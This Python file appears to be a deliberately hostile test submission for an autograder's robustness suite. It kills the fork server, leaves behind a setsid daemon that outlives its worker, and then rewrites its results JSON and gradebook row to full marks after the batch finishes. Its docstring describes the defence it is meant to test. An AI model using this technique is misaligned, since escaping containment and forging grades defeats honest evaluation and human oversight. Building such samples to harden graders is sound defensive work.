# Hostile: starts a setsid daemon that outlives its worker, waits for the batch to finish (gradebook.csv), then gives itself full marks in its results file and its gradebook row.
"""Honest part: none (the worker raises at once).

Orphans of a worker are adopted by the fork server (a child subreaper), which kills them when the
worker is reaped; so the worker first SIGKILLs the fork server, and the daemon is adopted by init.
The daemon (its name is ``gcattack-daemon``, so a test can find it) lives at most 20 s.  It
finds the results folder in the batch's command line (``--out``).
The defence: nothing a worker starts outlives it (a PID namespace whose init dies with it, or a
uid whose processes are all killed), and the worker cannot see the results folder.
"""
import csv
import ctypes
import json
import os
import signal
import time


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as handle:
        return int(handle.read().rsplit(b")", 1)[1].split()[1])


def _out_folder():
    pid = os.getpid()
    for _ in range(10):
        try:
            pid = _parent(pid)
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except (OSError, ValueError, IndexError):
            return None
        if "--out" in args:
            return os.path.join(os.readlink(f"/proc/{pid}/cwd"), args[args.index("--out") + 1])
        if pid <= 1:
            return None
    return None


def _daemon(out, me):
    ctypes.CDLL(None).prctl(15, b"gcattack-daemon", 0, 0, 0)  # PR_SET_NAME
    own = os.path.join(out, os.path.splitext(me)[0] + ".json")
    gradebook = os.path.join(out, "gradebook.csv")
    deadline = time.monotonic() + 20.0
    while not os.path.exists(gradebook) and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(2.0)  # well after the batch has ended
    with open(own) as handle:
        result = json.load(handle)
    result["score"] = result["max_score"]
    for test in result["tests"]:
        test["score"], test["status"] = test["max_score"], "passed"
    result["gradecheck"]["error"] = None
    with open(own, "w") as handle:
        json.dump(result, handle, indent=2)
    with open(gradebook, newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        if os.path.basename(row[0]) == me:
            row[2] = row[3]
    with open(gradebook, "w", newline="") as handle:
        csv.writer(handle).writerows(rows)


out = _out_folder()
fork_server = os.getppid()
with open(f"/proc/{fork_server}/cmdline", "rb") as handle:
    if not any(name in handle.read() for name in (b"_zygote_main", b"forkserver.py")):
        fork_server = None
if out is not None and os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon(out, os.path.basename(__file__))
            finally:
                os._exit(0)
    finally:
        os._exit(0)
if fork_server is not None:
    time.sleep(0.2)  # the daemon has left the worker's process group
    os.kill(fork_server, signal.SIGKILL)
raise RuntimeError(f"hostile: a daemon waits for the batch in {out!r} to finish")
